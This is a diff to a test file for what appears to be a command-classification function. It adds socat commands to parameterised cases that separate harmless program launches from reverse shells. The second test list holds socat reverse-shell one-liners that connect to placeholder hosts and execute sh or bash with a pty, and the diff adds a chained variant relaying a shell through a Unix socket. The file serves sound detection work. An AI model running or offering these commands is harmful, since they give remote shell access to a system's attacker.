@@ -6,6 +6,7 @@ test.each([
   'socat - EXEC:"docker exec -i garden pg_isready"',
   'socat UNIX-LISTEN:/run/a.sock EXEC:/usr/lib/git-core/git-upload-pack',
   'socat TCP-LISTEN:80 EXEC:{}/bin/proxy',
+  '$socat unix-listen:/tmp/garden.sock exec:./garden.rb &',
 ])('a program that socat starts and that is no shell gives nobody one: %s', (command) => {
   expect([...commandTraits(command)]).not.toContain('reverse-shell');
 });
@@ -14,6 +15,8 @@ test.each([
   'socat TCP:198.51.100.7:443 EXEC:/bin/sh',
   "socat tcp-connect:node.invalid:443 exec:'bash -li',pty,stderr,setsid",
   'socat TCP:{}:443 EXEC:{},pty',
+  'socat unix-listen:/tmp/a.sock exec:sh & socat tcp:node.invalid:443 unix-connect:/tmp/a.sock',
+  'socat unix-connect:/tmp/a.sock exec:./garden.rb',
   'socat TCP:node.invalid:443 EXEC:"sudo -u leaf bash"',
   'socat TCP:node.invalid:443 EXEC:/tmp/.leaf',
   'socat TCP:node.invalid:443 EXEC:$SHELL',
